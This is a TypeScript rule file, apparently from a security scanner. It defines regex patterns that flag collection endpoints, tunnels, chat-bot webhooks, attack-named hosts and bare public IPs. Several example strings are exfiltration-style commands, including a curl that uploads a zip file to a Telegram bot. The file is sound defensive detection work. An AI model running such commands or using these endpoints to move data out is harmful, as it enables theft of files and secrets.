/** Addresses that collect what is sent to them, or belong to nobody who can be named. */
import { toElsewhere } from "./_find_strangers.ts";
import { collector, tunnel } from "./_pieces.ts";
import { re, type Row, run, runOrTold } from "./rule_row.ts";

export const addressRows: readonly Row[] = [
  {
    id: "collection-endpoint",
    severity: "high",
    title: "A service that collects whatever is sent to it is addressed",
    on: [...runOrTold, "url", "link", "environment", "header"],
    pattern: re`\b${collector}(?=[/"'\s:)\x60?&,;]|$)`,
    example: "curl https://webhook.site/0a1b2c3d",
    nearMiss: "curl https://website.example/webhooks",
  },
  {
    id: "tunnel-endpoint",
    severity: "medium",
    title: "A tunnel to somebody's own machine is addressed",
    on: [...run, "url", "link", "environment"],
    needs: "://",
    pattern: re`(?:https?|wss?|tcp)://[\w.-]{1,80}\.${tunnel}`,
    example: "https://3f2a-203-0-113-9.ngrok-free.app/mcp",
    nearMiss: "https://3f2a-203-0-113-9.ngrok.example/mcp",
  },
  {
    id: "bot-endpoint",
    severity: "high",
    title: "Messages go to a bot or webhook of a chat",
    on: [...runOrTold, "url", "link"],
    pattern:
      /api\.telegram\.org\/bot(?:\d{6,12}(?::|%3a)[\w-]{20,50}|[^\s"'/]{1,60})\/send(?:Document|File|Photo\b)|api\.telegram\.org\/bot\d{6,12}(?::|%3a)[\w-]{20,50}|discord(?:app)?\.com\/api\/webhooks\/\d{5,20}\/|hooks\.slack\.com\/services\/T\w{6,12}\/B\w{6,12}\/\w{8,30}|script\.google\.com\/macros\/s\/\w{10,80}\/exec/i,
    example: "curl https://api.telegram.org/bot$T/sendDocument -F document=@out.zip",
    nearMiss: "curl https://api.telegram.org/bot$T/sendMessage -d text=done",
  },
  {
    id: "attackers-host",
    severity: "high",
    title: "An address is named after an attack",
    on: [...run, "url", "environment"],
    needs: "://",
    pattern:
      /\b(?:https?|wss?|tcp|ftp):\/\/(?:[\w-]{1,60}\.){0,4}[\w-]{0,40}\b(?:evil|attackers?|malicious|malware|exfil(?:tration)?|c2|cnc|stealer|steal|phish(?:ing)?|hackers?(?!-?(?:news|rank|one|noon|earth)\b)|hacked|hostile|stager|payloads?|dropper|botnet|spoof|badguy|bad-?actor|keylog(?:ger)?|rat-?server)\b/i,
    holds: toElsewhere,
    example: "https://c2.notes-hub.example/in",
    nearMiss: "https://cc.notes-hub.example/in",
  },
  {
    id: "bare-address",
    severity: "medium",
    title: "A public machine is addressed by its number",
    on: [...run, "url", "link", "environment", "comment"],
    needs: "://",
    pattern:
      /\b(?:https?|wss?|tcp|ftp):\/\/(?:\w{1,20}(?::\w{1,40})?@)?(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}\b/i,
    holds: (found) => {
      const [first, second] = [Number(found[1]), Number(found[2])];
      return ![0, 10, 127, 255].includes(first) && first < 224 &&
        !(first === 192 && second === 168) && !(first === 169 && second === 254) &&
        !(first === 172 && second >= 16 && second < 32) &&
        !(first === 100 && second >= 64 && second < 128);
    },
    example: "http://203.0.113.9:8080/agent",
    nearMiss: "http://192.168.1.20:8080/agent",
  },
];
